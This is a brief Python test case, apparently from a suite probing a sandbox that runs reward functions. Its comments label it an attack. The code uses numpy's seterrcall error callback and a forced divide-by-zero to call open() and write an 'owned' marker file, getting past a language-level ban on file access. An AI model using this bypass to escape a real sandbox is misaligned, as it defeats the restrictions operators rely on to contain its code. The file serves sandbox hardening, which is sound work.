# attack: np.seterrcall calls any function
# group: numpy
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    np.seterrcall(lambda *a: open('@FOLDER@/owned', 'w'))
    np.seterr(all='call')
    1 / (x * 0)
    return x, {}
